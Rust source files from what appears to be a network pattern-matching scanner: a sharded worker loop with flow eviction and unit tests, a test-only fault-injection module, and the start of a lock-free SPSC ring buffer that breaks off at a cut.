    max_flows: Option<usize>,
    max_flow_buffer: Option<usize>,
) {
    // Per-flow stream state; the engines' thread-cached Scratch is implicit
    // (find_into uses this worker thread's cached scratch). With a cap,
    // `recency` keys flows by their last-push sequence number so the
    // least-recently-pushed flow is found in O(log flows) at eviction time;
    // without one the map stays empty and the uncapped hot path pays
    // nothing for the eviction machinery.
    let mut flows: HashMap<u64, FlowSlot> = HashMap::new();
    let mut recency: std::collections::BTreeMap<u64, u64> = std::collections::BTreeMap::new();
    let mut next_seq = 0u64;
    let mut matches: Vec<FlowMatch> = Vec::new();
    let mut rule_matches: Vec<FlowRuleMatch> = Vec::new();
    let mut stats = MatcherStats::default();
    let mut events: Vec<MatchEvent> = Vec::new();
    let mut rule_events: Vec<RuleMatch> = Vec::new();
    while let Ok(job) = receiver.recv() {
        match job {
            Job::Packet(packet) => {
                let seq = next_seq;
                next_seq += 1;
                let flow = packet.flow;
                let slot = if let Some(cap) = max_flows {
                    if let Some(slot) = flows.get_mut(&flow) {
                        recency.remove(&slot.seq);
                        slot.seq = seq;
                    } else {
                        // An unseen flow would push this worker past its
                        // share of the cap: retire the least-recently-pushed
                        // flow first (same semantics as close_flow — its
                        // carry state is dropped and a later packet for it
                        // starts a fresh stream).
                        if flows.len() >= cap {
                            let (_, evicted) =
                                recency.pop_first().expect("cap >= 1, so map is non-empty");
                            flows.remove(&evicted);
                        }
                        flows.insert(
                            flow,
                            FlowSlot {
                                scanner: FlowScanner::mint(&mode, packet.tuple, max_flow_buffer),
                                seq,
                            },
                        );
                    }
                    recency.insert(seq, flow);
                    flows.get_mut(&flow).expect("present or just inserted")
                } else {
                    // Uncapped: no recency bookkeeping, one hash lookup.
                    flows.entry(flow).or_insert_with(|| FlowSlot {
                        scanner: FlowScanner::mint(&mode, packet.tuple, max_flow_buffer),
                        seq,
                    })
                };
                events.clear();
                rule_events.clear();
                match &mut slot.scanner {
                    FlowScanner::Plain(scanner) => scanner.push(&packet.payload, &mut events),
                    FlowScanner::Rules(scanner) => {
                        scanner.push(&packet.payload, &mut events, &mut rule_events)
                    }
                    FlowScanner::Grouped(scanner) => {
                        scanner.push(&packet.payload, &mut rule_events)
                    }
                }
                stats.bytes_scanned += packet.payload.len() as u64;
                // Grouped mode reports no anchor events (group-local pattern
                // ids would be ambiguous); count confirmed rules instead.
                stats.matches += match &slot.scanner {
                    FlowScanner::Grouped(_) => rule_events.len() as u64,
                    _ => events.len() as u64,
                };
                matches.extend(events.drain(..).map(|event| FlowMatch { flow, event }));
                rule_matches.extend(rule_events.drain(..).map(|m| FlowRuleMatch {
                    flow,
                    rule: m.rule,
                    end: m.end,
                }));
            }
            Job::CloseFlow(flow) => {
                if let Some(slot) = flows.remove(&flow) {
                    recency.remove(&slot.seq);
                }
            }
            Job::Flush(report) => {
                let _ = report.send(WorkerReport {
                    matches: std::mem::take(&mut matches),
                    rule_matches: std::mem::take(&mut rule_matches),
                    stats: std::mem::take(&mut stats),
                    resident_flows: flows.len(),
                    buffered_bytes: flows.values().map(|s| s.scanner.buffered_bytes()).sum(),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builder::ScannerBuilder;
    use crate::group::GroupedEngineSet;
    use crate::stream::SharedMatcher;
    use mpm_patterns::rule::RuleSet;
    use mpm_patterns::{NaiveMatcher, PatternSet};
    use std::sync::Arc;

    fn engine(set: &PatternSet) -> SharedMatcher {
        Arc::from(NaiveMatcher::new(set))
    }

    fn barrier(set: &PatternSet, workers: usize) -> ShardedScanner {
        ScannerBuilder::new()
            .engine(engine(set), set)
            .workers(workers)
            .build_barrier()
            .expect("valid build")
    }

    fn rules_barrier(set: &RuleSet, workers: usize) -> ScannerBuilder {
        ScannerBuilder::new()
            .rules(Arc::new(NaiveMatcher::new(set.anchors())), set)
            .workers(workers)
    }

    #[test]
    fn cross_packet_match_within_a_flow() {
        let set = PatternSet::from_literals(&["needle"]);
        let mut scanner = barrier(&set, 3);
        let result = scanner.scan_batch(vec![
            Packet::new(1, b"xxnee".to_vec()),
            Packet::new(2, b"dle".to_vec()), // different flow: no match
            Packet::new(1, b"dleyy".to_vec()),
        ]);
        assert_eq!(result.matches.len(), 1);
        assert_eq!(result.matches[0].flow, 1);
        assert_eq!(result.matches[0].event.start, 2);
        assert_eq!(result.stats.bytes_scanned, 13);
        assert_eq!(result.stats.matches, 1);
    }

    #[test]
    fn state_persists_across_batches() {
        let set = PatternSet::from_literals(&["split"]);
        let mut scanner = barrier(&set, 2);
        let first = scanner.scan_batch(vec![Packet::new(5, b"..spl".to_vec())]);
        assert!(first.matches.is_empty());
        let second = scanner.scan_batch(vec![Packet::new(5, b"it..".to_vec())]);
        assert_eq!(second.matches.len(), 1);
        assert_eq!(second.matches[0].event.start, 2);
    }

    #[test]
    fn flow_affinity_is_stable() {
        let set = PatternSet::from_literals(&["x"]);
        let scanner = barrier(&set, 4);
        for flow in 0..100 {
            assert_eq!(scanner.worker_of(flow), scanner.worker_of(flow));
        }
        // The mixer should not send every flow to one worker.
        let hit: std::collections::HashSet<usize> =
            (0..100).map(|f| scanner.worker_of(f)).collect();
        assert!(hit.len() > 1);
    }

    #[test]
    fn dispatch_then_flush_equals_scan_batch() {
        let set = PatternSet::from_literals(&["ab", "b"]);
        let packets = vec![
            Packet::new(1, b"zab".to_vec()),
            Packet::new(2, b"ba".to_vec()),
        ];
        let mut a = barrier(&set, 2);
        let batch = a.scan_batch(packets.clone());
        let mut b = barrier(&set, 2);
        for packet in packets {
            b.dispatch(packet);
        }
        let incremental = b.flush();
        assert_eq!(batch.matches, incremental.matches);
        assert_eq!(batch.stats.bytes_scanned, incremental.stats.bytes_scanned);
    }

    #[test]
    fn close_flow_drops_stream_state() {
        let set = PatternSet::from_literals(&["split"]);
        let mut scanner = barrier(&set, 2);
        assert!(scanner
            .scan_batch(vec![Packet::new(9, b"..spl".to_vec())])
            .matches
            .is_empty());
        scanner.close_flow(9);
        // The carried "spl" was retired with the flow: no straddle match,
        // and the flow restarts at offset 0.
        let after = scanner.scan_batch(vec![Packet::new(9, b"it.split".to_vec())]);
        assert_eq!(after.matches.len(), 1);
        assert_eq!(after.matches[0].event.start, 3);
        // Closing an unknown flow is a no-op.
        scanner.close_flow(12345);
        assert!(scanner.flush().matches.is_empty());
    }

    #[test]
    fn million_flow_churn_stays_bounded_and_scans_correctly() {
        let set = PatternSet::from_literals(&["needle"]);
        let cap = 64;
        let workers = 3;
        let mut scanner = ScannerBuilder::new()
            .engine(engine(&set), &set)
            .workers(workers)
            .max_flows(cap)
            .build_barrier()
            .expect("valid build");
        // A million distinct flows, each carrying one complete occurrence:
        // every match must be found (the pattern never straddles packets of
        // different flows) and the resident state must stay at the cap, not
        // at one million scanners.
        let total_flows = 1_000_000u64;
        let batch_size = 50_000u64;
        let mut found = 0u64;
        let mut flow = 0u64;
        while flow < total_flows {
            let packets: Vec<Packet> = (flow..flow + batch_size)
                .map(|f| Packet::new(f, b"..needle..".to_vec()))
                .collect();
            flow += batch_size;
            let result = scanner.scan_batch(packets);
            found += result.matches.len() as u64;
            assert!(
                result.resident_flows <= workers * cap.div_ceil(workers),
                "resident flows {} exceeded the cap",
                result.resident_flows
            );
        }
        assert_eq!(found, total_flows);
    }

    #[test]
    fn eviction_is_least_recently_pushed_and_acts_like_close_flow() {
        let set = PatternSet::from_literals(&["split"]);
        // One worker, two resident flows.
        let mut scanner = ScannerBuilder::new()
            .engine(engine(&set), &set)
            .workers(1)
            .max_flows(2)
            .build_barrier()
            .expect("valid build");
        // Flow 1 and 2 each buffer a half-pattern; pushing flow 1 again
        // makes flow 2 the least-recently-pushed.
        scanner.scan_batch(vec![
            Packet::new(1, b"..sp".to_vec()),
            Packet::new(2, b"..sp".to_vec()),
            Packet::new(1, b"spl".to_vec()),
        ]);
        // Flow 3 arrives at the cap: flow 2 (LRP) is evicted, flow 1 stays.
        let result = scanner.scan_batch(vec![
            Packet::new(3, b"zzz".to_vec()),
            Packet::new(1, b"it!".to_vec()), // completes flow 1's "split"
            Packet::new(2, b"lit".to_vec()), // would complete flow 2's — evicted
        ]);
        let flows_matched: Vec<u64> = result.matches.iter().map(|m| m.flow).collect();
        assert_eq!(flows_matched, vec![1], "only the retained flow straddles");
        assert_eq!(result.matches[0].event.start, 4);
        // Evicted flow restarted at offset 0: a full occurrence still hits.
        let after = scanner.scan_batch(vec![Packet::new(2, b"split".to_vec())]);
        assert_eq!(after.matches.len(), 1);
        assert_eq!(after.matches[0].event.start, 3);
    }

    fn rules_for_shard() -> RuleSet {
        use mpm_patterns::rule::{Rule, RuleContent};
        RuleSet::new(vec![Rule::new(
            mpm_patterns::ProtocolGroup::Any,
            vec![
                RuleContent::new(*b"attack"),
                RuleContent::new(*b"body").with_distance(0),
            ],
        )])
    }

    #[test]
    fn rule_mode_confirms_across_packets_within_a_flow() {
        let set = rules_for_shard();
        let mut scanner = rules_barrier(&set, 3).build_barrier().expect("valid build");
        let result = scanner.scan_batch(vec![
            Packet::new(1, b"..atta".to_vec()),
            Packet::new(2, b"ck body".to_vec()), // other flow: no anchor
            Packet::new(1, b"ck..".to_vec()),
            Packet::new(1, b"body".to_vec()),
        ]);
        assert_eq!(
            result.rule_matches,
            vec![FlowRuleMatch {
                flow: 1,
                rule: RuleId(0),
                end: 14
            }]
        );
        // Anchor hits still reported, in flow-stream coordinates.
        assert_eq!(result.matches.len(), 1);
        assert_eq!(result.matches[0].event.start, 2);
    }

    #[test]
    fn rule_mode_confirms_across_batches_and_reports_once() {
        let set = rules_for_shard();
        let mut scanner = rules_barrier(&set, 2).build_barrier().expect("valid build");
        let first = scanner.scan_batch(vec![Packet::new(7, b"attack..".to_vec())]);
        assert!(
            first.rule_matches.is_empty(),
            "second content still missing"
        );
        let second = scanner.scan_batch(vec![Packet::new(7, b"body".to_vec())]);
        assert_eq!(
            second.rule_matches,
            vec![FlowRuleMatch {
                flow: 7,
                rule: RuleId(0),
                end: 12
            }]
        );
        let third = scanner.scan_batch(vec![Packet::new(7, b"body".to_vec())]);
        assert!(
            third.rule_matches.is_empty(),
            "a rule confirms once per flow"
        );
    }

    #[test]
    fn rule_mode_determinism_across_worker_counts() {
        let set = rules_for_shard();
        let packets: Vec<Packet> = (0..20u64)
            .map(|f| Packet::new(f, format!("attack {f} body").into_bytes()))
            .collect();
        let run = |workers: usize| {
            let mut scanner = rules_barrier(&set, workers)
                .build_barrier()
                .expect("valid build");
            scanner.scan_batch(packets.clone())
        };
        let one = run(1);
        let four = run(4);
        assert_eq!(one.rule_matches, four.rule_matches);
        assert_eq!(one.matches, four.matches);
        assert_eq!(one.rule_matches.len(), 20);
    }

    #[test]
    fn rule_mode_eviction_retires_buffered_payload() {
        let set = rules_for_shard();
        // One worker, one resident flow: flow 2's arrival evicts flow 1.
        let mut scanner = rules_barrier(&set, 1)
            .max_flows(1)
            .build_barrier()
            .expect("valid build");
        scanner.scan_batch(vec![Packet::new(1, b"attack..".to_vec())]);
        let result = scanner.scan_batch(vec![
            Packet::new(2, b"zz".to_vec()),
            Packet::new(1, b"body".to_vec()), // flow 1 restarted: no anchor
        ]);
        assert!(result.rule_matches.is_empty());
    }

    fn grouped_engines() -> Arc<GroupedEngineSet> {
        use mpm_patterns::group::GroupedRuleSet;
        use mpm_patterns::snort::{parse_grouped, ParseOptions};
        let text = r#"
alert tcp any any -> any 80 (msg:"web"; content:"GET /admin"; sid:1;)
alert udp any any -> any 53 (msg:"dns"; content:"querydata"; sid:2;)
alert ip any any -> any any (msg:"any"; content:"evil-bytes"; sid:3;)
"#;
        let grouped = GroupedRuleSet::new(parse_grouped(text, ParseOptions::default()).unwrap());
        Arc::new(GroupedEngineSet::build_with(grouped, |set, _| {
            Arc::from(NaiveMatcher::new(set))
        }))
    }

    #[test]
    fn grouped_mode_selects_groups_per_flow_and_confirms_across_packets() {
        use mpm_patterns::ports::{FlowTuple, Proto};
        let mut scanner = ScannerBuilder::new()
            .groups(grouped_engines())
            .workers(3)
            .build_barrier()
            .expect("valid build");
        let web = FlowTuple::new(Proto::Tcp, 40000, 80);
        let dns = FlowTuple::new(Proto::Udp, 1000, 53);
        let result = scanner.scan_batch(vec![
            // Flow 1 (HTTP): web rule cut across packets + the ip-any rule.
            Packet::new_with_tuple(1, b"..GET /ad".to_vec(), web),
            Packet::new_with_tuple(2, b"querydata evil-bytes".to_vec(), dns),
            Packet::new(1, b"min evil-bytes".to_vec()),
            // Flow 3 (HTTP): dns content must NOT fire on an HTTP flow.
            Packet::new_with_tuple(3, b"querydata".to_vec(), web),
        ]);
        assert!(result.matches.is_empty(), "grouped mode reports rules only");
        assert_eq!(
            result.rule_matches,
            vec![
                FlowRuleMatch {
                    flow: 1,
                    rule: RuleId(0),
                    end: 12
                },
                FlowRuleMatch {
                    flow: 1,
                    rule: RuleId(2),
                    end: 23
                },
                FlowRuleMatch {
                    flow: 2,
                    rule: RuleId(1),
                    end: 9
                },
                FlowRuleMatch {
                    flow: 2,
                    rule: RuleId(2),
                    end: 20
                },
            ]
        );
        assert_eq!(result.stats.matches, 4);
    }

    #[test]
    fn grouped_mode_determinism_across_worker_counts() {
        use mpm_patterns::ports::{FlowTuple, Proto};
        let packets: Vec<Packet> = (0..24u64)
            .map(|f| {
                let tuple = if f % 2 == 0 {
                    FlowTuple::new(Proto::Tcp, 40000 + f as u16, 80)
                } else {
                    FlowTuple::new(Proto::Udp, 1000 + f as u16, 53)
                };
                Packet::new_with_tuple(f, b"GET /admin querydata evil-bytes".to_vec(), tuple)
            })
            .collect();
        let run = |workers: usize| {
            let mut scanner = ScannerBuilder::new()
                .groups(grouped_engines())
                .workers(workers)
                .build_barrier()
                .expect("valid build");
            scanner.scan_batch(packets.clone())
        };
        let one = run(1);
        let four = run(4);
        assert_eq!(one.rule_matches, four.rule_matches);
        // Every flow fires its protocol's rule plus the ip-any rule.
        assert_eq!(one.rule_matches.len(), 48);
    }

    #[test]
    fn grouped_mode_eviction_retires_flow_state() {
        use mpm_patterns::ports::{FlowTuple, Proto};
        let web = FlowTuple::new(Proto::Tcp, 9, 80);
        let mut scanner = ScannerBuilder::new()
            .groups(grouped_engines())
            .workers(1)
            .max_flows(1)
            .build_barrier()
            .expect("valid build");
        scanner.scan_batch(vec![Packet::new_with_tuple(1, b"GET /ad".to_vec(), web)]);
        let result = scanner.scan_batch(vec![
            Packet::new_with_tuple(2, b"zz".to_vec(), web), // evicts flow 1
            Packet::new_with_tuple(1, b"min".to_vec(), web), // fresh stream
        ]);
        assert!(result.rule_matches.is_empty());
    }

    #[test]
    fn resident_flows_reported_without_a_cap_too() {
        let set = PatternSet::from_literals(&["x"]);
        let mut scanner = barrier(&set, 2);
        let result = scanner.scan_batch((0..10u64).map(|f| Packet::new(f, b"x".to_vec())));
        assert_eq!(result.resident_flows, 10);
        scanner.close_flow(3);
        assert_eq!(scanner.flush().resident_flows, 9);
    }
}
