//! Deterministic fault injection for the pipeline runtime.
//!
//! A [`FaultPlan`] describes a script of failures — "panic on worker 1 at
//! its 3rd packet", "refuse the next 5 pushes to worker 0's ring",
//! "advance the eviction clock by two minutes" — that the pipeline
//! consults at well-defined points. Because every trigger is keyed on a
//! per-worker packet sequence number (packets are popped from a FIFO ring,
//! so a worker's processing order *is* the dispatch order restricted to
//! that worker), a plan reproduces the same failure at the same point on
//! every run, independent of thread scheduling.
//!
//! The real implementation only exists under the `fault-inject` cargo
//! feature. Without the feature this module still compiles and exports the
//! same API surface, but every hook is an inlined no-op and every
//! configuration method does nothing — production builds pay nothing for
//! the harness.
//!
//! Faults are **one-shot**: once a trigger fires it is removed from the
//! plan, so a respawned worker (whose packet sequence restarts at zero)
//! does not re-trip the same fault in an infinite supervision loop.
//!
//! With the feature enabled, `FaultPlan::from_env` parses the
//! `MPM_FAULT_PLAN` environment variable so a plan can be injected into an
//! unmodified binary: a `;`-separated list of `panic:W@N`, `exit:W@N`, and
//! `ring_full:WxC` clauses (worker `W`, packet `N`, refusal count `C`).

#[cfg(feature = "fault-inject")]
mod imp {
    use std::collections::HashMap;
    use std::sync::atomic::{AtomicU64, Ordering};
    use std::sync::Mutex;
    use std::time::{Duration, Instant};

    /// A deterministic script of injected failures, shared (via `Arc`)
    /// between the test driving the faults and the pipeline under test.
    ///
    /// All mutation goes through `&self` so a single plan can be armed
    /// from the test thread while the dispatcher and workers consult it.
    /// The lock `expect`s can never see poison: the one panicking path
    /// (`maybe_panic`) drops its guard before unwinding.
    #[derive(Debug, Default)]
    pub struct FaultPlan {
        /// One-shot (worker, packet-seq) pairs that panic the worker.
        panics: Mutex<Vec<(usize, u64)>>,
        /// One-shot (worker, packet-seq) pairs that make the worker exit
        /// silently (no death report — models a hard crash).
        exits: Mutex<Vec<(usize, u64)>>,
        /// Per-worker budget of dispatch pushes to refuse as if the job
        /// ring were full. `u64::MAX` is effectively "refuse forever".
        ring_full: Mutex<HashMap<usize, u64>>,
        /// Nanoseconds added to the eviction clock.
        clock_offset: AtomicU64,
    }

    impl FaultPlan {
        /// Creates an empty plan (no faults armed).
        pub fn new() -> Self {
            Self::default()
        }

        /// Arms a one-shot panic on `worker` when it processes its
        /// `packet`-th packet (1-based, counted per worker lifetime).
        #[must_use]
        pub fn panic_on(self, worker: usize, packet: u64) -> Self {
            self.panics
                .lock()
                .expect("fault plan lock")
                .push((worker, packet));
            self
        }

        /// Arms a one-shot silent exit (no death report) on `worker` when
        /// it receives its `packet`-th packet.
        #[must_use]
        pub fn exit_on(self, worker: usize, packet: u64) -> Self {
            self.exits
                .lock()
                .expect("fault plan lock")
                .push((worker, packet));
            self
        }

        /// Makes the next `count` dispatch pushes to `worker` behave as if
        /// the job ring were full. `count == 0` disarms; `u64::MAX` is
        /// effectively unbounded. Only `Shed`/`BlockTimeout` dispatch
        /// consults this (the blocking `Block` path would deadlock against
        /// an unbounded refusal, and it is the differential oracle).
        pub fn force_ring_full(&self, worker: usize, count: u64) {
            let mut map = self.ring_full.lock().expect("fault plan lock");
            if count == 0 {
                map.remove(&worker);
            } else {
                map.insert(worker, count);
            }
        }

        /// Advances the mock eviction clock by `delta`. Only idle-eviction
        /// timestamps observe the offset; latency/throughput telemetry
        /// stays on the real clock.
        pub fn advance_clock(&self, delta: Duration) {
            let nanos = u64::try_from(delta.as_nanos()).unwrap_or(u64::MAX);
            self.clock_offset.fetch_add(nanos, Ordering::Relaxed);
        }

        /// Parses a plan from the `MPM_FAULT_PLAN` environment variable
        /// (`;`-separated `panic:W@N` / `exit:W@N` / `ring_full:WxC`
        /// clauses). Returns `None` when the variable is unset or empty;
        /// malformed clauses are ignored.
        pub fn from_env() -> Option<Self> {
            let spec = std::env::var("MPM_FAULT_PLAN").ok()?;
            if spec.trim().is_empty() {
                return None;
            }
            let mut plan = Self::new();
            for clause in spec.split(';') {
                let clause = clause.trim();
                if let Some(rest) = clause.strip_prefix("panic:") {
                    if let Some((w, n)) = parse_at(rest) {
                        plan = plan.panic_on(w, n);
                    }
                } else if let Some(rest) = clause.strip_prefix("exit:") {
                    if let Some((w, n)) = parse_at(rest) {
                        plan = plan.exit_on(w, n);
                    }
                } else if let Some(rest) = clause.strip_prefix("ring_full:") {
                    if let Some((w, c)) = parse_x(rest) {
                        plan.force_ring_full(w, c);
                    }
                }
            }
            Some(plan)
        }

        /// Worker-side hook: panics iff a `panic_on` trigger matches
        /// (one-shot — the trigger is consumed).
        pub(crate) fn maybe_panic(&self, worker: usize, packet: u64) {
            let mut panics = self.panics.lock().expect("fault plan lock");
            if let Some(pos) = panics.iter().position(|&(w, n)| w == worker && n == packet) {
                panics.swap_remove(pos);
                drop(panics);
                panic!("fault-inject: forced panic on worker {worker} at packet {packet}");
            }
        }

        /// Worker-side hook: true iff an `exit_on` trigger matches
        /// (one-shot — the trigger is consumed).
        pub(crate) fn should_exit(&self, worker: usize, packet: u64) -> bool {
            let mut exits = self.exits.lock().expect("fault plan lock");
            if let Some(pos) = exits.iter().position(|&(w, n)| w == worker && n == packet) {
                exits.swap_remove(pos);
                true
            } else {
                false
            }
        }

        /// Dispatcher-side hook: true iff this push should be refused as
        /// ring-full. Decrements the worker's refusal budget.
        pub(crate) fn refuse_push(&self, worker: usize) -> bool {
            let mut map = self.ring_full.lock().expect("fault plan lock");
            match map.get_mut(&worker) {
                Some(budget) => {
                    if *budget != u64::MAX {
                        *budget -= 1;
                        if *budget == 0 {
                            map.remove(&worker);
                        }
                    }
                    true
                }
                None => false,
            }
        }

        /// Shifts a real timestamp by the mock clock offset. The result
        /// feeds `last_seen`/idle-eviction comparisons only.
        pub(crate) fn clock(&self, real: Instant) -> Instant {
            let offset = self.clock_offset.load(Ordering::Relaxed);
            real + Duration::from_nanos(offset)
        }
    }

    fn parse_at(spec: &str) -> Option<(usize, u64)> {
        let (w, n) = spec.split_once('@')?;
        Some((w.trim().parse().ok()?, n.trim().parse().ok()?))
    }

    fn parse_x(spec: &str) -> Option<(usize, u64)> {
        let (w, c) = spec.split_once('x')?;
        Some((w.trim().parse().ok()?, c.trim().parse().ok()?))
    }
}

#[cfg(not(feature = "fault-inject"))]
mod imp {
    use std::time::{Duration, Instant};

    /// No-op stand-in for the fault plan; the real implementation lives
    /// behind the `fault-inject` cargo feature. Every method compiles to
    /// nothing so the hooks vanish from release builds.
    #[derive(Debug, Default)]
    pub struct FaultPlan;

    impl FaultPlan {
        /// Creates an (inert) plan.
        pub fn new() -> Self {
            Self
        }

        /// No-op without the `fault-inject` feature.
        #[must_use]
        pub fn panic_on(self, _worker: usize, _packet: u64) -> Self {
            self
        }

        /// No-op without the `fault-inject` feature.
        #[must_use]
        pub fn exit_on(self, _worker: usize, _packet: u64) -> Self {
            self
        }

        /// No-op without the `fault-inject` feature.
        pub fn force_ring_full(&self, _worker: usize, _count: u64) {}

        /// No-op without the `fault-inject` feature.
        pub fn advance_clock(&self, _delta: Duration) {}

        /// Always `None` without the `fault-inject` feature.
        pub fn from_env() -> Option<Self> {
            None
        }

        #[inline(always)]
        pub(crate) fn maybe_panic(&self, _worker: usize, _packet: u64) {}

        #[inline(always)]
        pub(crate) fn should_exit(&self, _worker: usize, _packet: u64) -> bool {
            false
        }

        #[inline(always)]
        pub(crate) fn refuse_push(&self, _worker: usize) -> bool {
            false
        }

        #[inline(always)]
        pub(crate) fn clock(&self, real: Instant) -> Instant {
            real
        }
    }
}

pub use imp::FaultPlan;

#[cfg(all(test, feature = "fault-inject"))]
mod tests {
    use super::FaultPlan;
    use std::time::{Duration, Instant};

    #[test]
    fn triggers_are_one_shot() {
        let plan = FaultPlan::new().exit_on(1, 3);
        assert!(!plan.should_exit(1, 2));
        assert!(plan.should_exit(1, 3));
        assert!(!plan.should_exit(1, 3), "trigger must be consumed");
    }

    #[test]
    fn ring_full_budget_is_exact_and_disarmable() {
        let plan = FaultPlan::new();
        plan.force_ring_full(0, 2);
        assert!(plan.refuse_push(0));
        assert!(plan.refuse_push(0));
        assert!(!plan.refuse_push(0), "budget exhausted");
        plan.force_ring_full(0, 5);
        plan.force_ring_full(0, 0);
        assert!(!plan.refuse_push(0), "zero disarms");
        assert!(!plan.refuse_push(7), "unarmed worker never refuses");
    }

    #[test]
    fn clock_offset_accumulates() {
        let plan = FaultPlan::new();
        let base = Instant::now();
        assert_eq!(plan.clock(base), base);
        plan.advance_clock(Duration::from_secs(30));
        plan.advance_clock(Duration::from_secs(30));
        assert_eq!(plan.clock(base), base + Duration::from_secs(60));
    }
}
