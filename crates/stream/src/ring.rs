//! Bounded lock-free SPSC ring, vendored for the continuously-running
//! pipeline ([`crate::PipelineScanner`]) since the build is offline.
//!
//! One producer thread pushes, one consumer thread pops; both sides are
//! wait-free (a push or pop is a load, a bounds check, a slot write/read and
//! a store — no CAS loop, no lock, no allocation after construction). The
//! head and tail indices are monotonically increasing `usize`s reduced
//! modulo the power-of-two capacity, each on its own cache line so the
//! producer's stores never invalidate the consumer's hot line and vice
//! versa. This is the classic Lamport queue with relaxed-load fast paths:
//! each side caches the opposite index and only re-reads it (acquire) when
//! the cached value says the ring looks full/empty.
//!
//! Disconnect is a closed flag raised by whichever side drops its handle:
//! the producer's pushes fail with [`PushError::Closed`] once the consumer
//! is gone, and the consumer keeps draining buffered items after the
//! producer hangs up ([`Consumer::pop`] returns `None` only when the ring
//! is empty *and* closed — callers distinguish empty-for-now via
//! [`Consumer::is_closed`]).

use std::cell::UnsafeCell;
use std::mem::MaybeUninit;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

/// Pads an atomic to its own cache line (128 bytes covers the 2-line
/// prefetcher pairing on modern x86 as well as 64-byte lines elsewhere).
#[repr(align(128))]
struct CachePadded<T>(T);

struct Shared<T> {
    buffer: Box<[UnsafeCell<MaybeUninit<T>>]>,
    mask: usize,
    /// Next slot the consumer will pop (monotonic, wrapped by `mask`).
    head: CachePadded<AtomicUsize>,
    /// Next slot the producer will fill (monotonic, wrapped by `mask`).
    tail: CachePadded<AtomicUsize>,
    /// Raised by either side dropping its handle.
    closed: AtomicBool,
}

// SAFETY: the SPSC discipline (enforced by handing out exactly one
// `Producer` and one `Consumer`, neither of which is `Clone`) guarantees a
// slot is written by the producer strictly before the tail store publishes
// it, and read by the consumer strictly before the head store releases it —
// so no slot is ever accessed concurrently from both sides.
unsafe impl<T: Send> Send for Shared<T> {}
unsafe impl<T: Send> Sync for Shared<T> {}

/// Why a [`Producer::push`] was refused.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum PushError<T> {
    /// The ring is at capacity; the item is handed back so the caller can
    /// apply backpressure and retry.
    Full(T),
    /// The consumer is gone; the item is handed back and no later push can
    /// succeed.
    Closed(T),
}

impl<T> PushError<T> {
    /// The rejected item, regardless of the reason.
    pub fn into_inner(self) -> T {
        match self {
            PushError::Full(v) | PushError::Closed(v) => v,
        }
    }
}

/// The producing half of an SPSC ring; not `Clone` (single producer).
pub struct Producer<T> {
    shared: Arc<Shared<T>>,
    /// Producer-local cache of the consumer's head; refreshed only when the
    /// ring looks full against the cached value.
    cached_head: usize,
}

/// The consuming half of an SPSC ring; not `Clone` (single consumer).
pub struct Consumer<T> {
    shared: Arc<Shared<T>>,
    /// Consumer-local cache of the producer's tail; refreshed only when the
    /// ring looks empty against the cached value.
    cached_tail: usize,
}

/// Creates a bounded SPSC ring holding at most `capacity` items.
/// `capacity` is rounded up to the next power of two (minimum 2).
pub fn spsc<T>(capacity: usize) -> (Producer<T>, Consumer<T>) {
    let capacity = capacity.max(2).next_power_of_two();
    let buffer = (0..capacity)
        .map(|_| UnsafeCell::new(MaybeUninit::uninit()))
        .collect();
    let shared = Arc::new(Shared {
        buffer,
        mask: capacity - 1,
        head: CachePadded(AtomicUsize::new(0)),
        tail: CachePadded(AtomicUsize::new(0)),
        closed: AtomicBool::new(false),
    });
    (
        Producer {
            shared: shared.clone(),
            cached_head: 0,
        },
        Consumer {
            shared,
            cached_tail: 0,
        },
    )
}

impl<T> Producer<T> {
    /// Attempts to push `item` without blocking.
    pub fn push(&mut self, item: T) -> Result<(), PushError<T>> {
        let shared = &*self.shared;
        if shared.closed.load(Ordering::Relaxed) {
            return Err(PushError::Closed(item));
        }
        let tail = shared.tail.0.load(Ordering::Relaxed);
        if tail.wrapping_sub(self.cached_head) > shared.mask {
            // Looks full against the cached head — refresh and re-check.
            self.cached_head = shared.head.0.load(Ordering::Acquire);
            if tail.wrapping_sub(self.cached_head) > shared.mask {
                return Err(PushError::Full(item));
            }
        }
        // SAFETY: the slot at `tail` is outside [head, tail), so the
        // consumer is not reading it; only this (single) producer writes it.
        unsafe {
            (*shared.buffer[tail & shared.mask].get()).write(item);
        }
        // Release pairs with the consumer's acquire tail load: the slot
        // write above happens-before the consumer observes the new tail.
        shared.tail.0.store(tail.wrapping_add(1), Ordering::Release);
        Ok(())
    }

    /// Number of items currently buffered (racy but monotone-consistent:
    /// computed from one snapshot of each index).
    pub fn len(&self) -> usize {
        let tail = self.shared.tail.0.load(Ordering::Relaxed);
        let head = self.shared.head.0.load(Ordering::Relaxed);
        tail.wrapping_sub(head)
    }

    /// True when no items are buffered.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Ring capacity in items.
    pub fn capacity(&self) -> usize {
        self.shared.mask + 1
    }

    /// True once the consumer has dropped its handle.
    pub fn is_closed(&self) -> bool {
        self.shared.closed.load(Ordering::Relaxed)
    }

    /// Reclaims every item still buffered in the ring, in FIFO order, and
    /// resets the ring to empty. Used by worker supervision to recover the
    /// jobs a dead worker never popped.
    ///
    /// Contract (why this is `pub(crate)` and not public API): only sound
    /// once the consumer's thread has terminated **and been joined** — the
    /// join's happens-before edge makes the consumer's final head store and
    /// every published slot visible here, and guarantees no concurrent
    /// `pop` races the reads below.
    pub(crate) fn reclaim(&mut self) -> Vec<T> {
        let shared = &*self.shared;
        let head = shared.head.0.load(Ordering::Acquire);
        let tail = shared.tail.0.load(Ordering::Relaxed);
        let mut items = Vec::with_capacity(tail.wrapping_sub(head));
        for i in head..tail {
            // SAFETY: slots in [head, tail) hold initialized items, and the
            // consumer is gone (see the contract above), so this side is the
            // only accessor.
            items.push(unsafe { (*shared.buffer[i & shared.mask].get()).assume_init_read() });
        }
        shared.head.0.store(tail, Ordering::Release);
        items
    }
}

impl<T> Consumer<T> {
    /// Pops the oldest item, or `None` if the ring is currently empty.
    /// After the producer disconnects, buffered items keep draining; check
    /// [`Consumer::is_closed`] to tell "empty for now" from "hung up".
    pub fn pop(&mut self) -> Option<T> {
        let shared = &*self.shared;
        let head = shared.head.0.load(Ordering::Relaxed);
        if head == self.cached_tail {
            // Looks empty against the cached tail — refresh and re-check.
            // Acquire pairs with the producer's release tail store.
            self.cached_tail = shared.tail.0.load(Ordering::Acquire);
